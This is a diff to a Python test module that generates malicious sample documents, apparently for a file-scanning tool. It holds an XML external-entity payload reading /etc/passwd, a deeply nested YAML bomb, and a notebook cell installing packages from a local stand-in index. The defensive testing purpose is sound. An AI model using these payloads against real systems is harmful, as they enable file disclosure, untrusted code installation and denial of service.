@@ -6,7 +6,7 @@ import json
 from collections.abc import Callable
 
 from tests.corpora.models.attacks.payload import ADDRESS, SHELL
-from tests.corpora.models.attacks.registry import Acts, Attack, Made, Maker, add, attack
+from tests.corpora.models.attacks.registry import Acts, Attack, Made, Maker, add, always, attack
 
 
 def _document(
@@ -47,7 +47,7 @@ _PMML: dict[str, tuple[str, Acts, bytes]] = {
     "utf-16": ("an entity that reads a file, in UTF-16", "load", pmml("<DataDictionary>&x;</DataDictionary>", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>').decode().replace("UTF-8", "UTF-16").encode("utf-16")),
 }  # fmt: skip
 for _id, (_says, _acts, _whole) in _PMML.items():
-    _document("pmml", _id, f"PMML with {_says}", _acts, ".pmml")(lambda w=_whole: w)  # type: ignore[misc]
+    _document("pmml", _id, f"PMML with {_says}", _acts, ".pmml")(always(_whole))
 
 
 # ── YAML ─────────────────────────────────────────────────────────────────────────────────────────────────────────
@@ -73,7 +73,7 @@ for _id, (_says, _text) in _YAML.items():
             "yaml",
             f"YAML with {_says}",
             ".yaml",
-            lambda t=_text: t.encode(),
+            always(_text.encode()),
             "yaml",
             ("yaml",),
         )
@@ -88,7 +88,7 @@ _YAML_UNSEEN: dict[str, tuple[str, Acts, str]] = {
     "deep-nesting": ("lists in lists, twenty thousand deep", "none", "[" * 20_000 + "]" * 20_000 + "\n"),
 }  # fmt: skip
 for _id, (_says, _acts, _text) in _YAML_UNSEEN.items():
-    _document("yaml", _id, f"YAML with {_says}", _acts, ".yaml")(lambda t=_text: t.encode())  # type: ignore[misc]
+    _document("yaml", _id, f"YAML with {_says}", _acts, ".yaml")(always(_text.encode()))
 
 
 # ── Notebooks ────────────────────────────────────────────────────────────────────────────────────────────────────
@@ -132,7 +132,7 @@ _NOTEBOOKS: dict[str, tuple[str, Acts, bytes]] = {
     "pip-index": ("an installation from another index", "use", notebook(_code("%pip install --index-url http://127.0.0.1:9/simple weights\n"))),
 }  # fmt: skip
 for _id, (_says, _acts, _whole) in _NOTEBOOKS.items():
-    _document("notebook", _id, f"a notebook with {_says}", _acts, ".ipynb")(lambda w=_whole: w)  # type: ignore[misc]
+    _document("notebook", _id, f"a notebook with {_says}", _acts, ".ipynb")(always(_whole))
 
 
 # ── Requirements and set-up ──────────────────────────────────────────────────────────────────────────────────────
@@ -163,7 +163,7 @@ _LISTS: dict[str, tuple[str, Acts, dict[str, str]]] = {
 }  # fmt: skip
 for _id, (_says, _acts, _files) in _LISTS.items():
     _document("setup", _id, f"a folder whose set-up has {_says}", _acts, "", "acts when it is installed")(
-        lambda f=_files: {name: text.encode() for name, text in f.items()}  # type: ignore[misc]
+        always({name: text.encode() for name, text in _files.items()})
     )
 
 
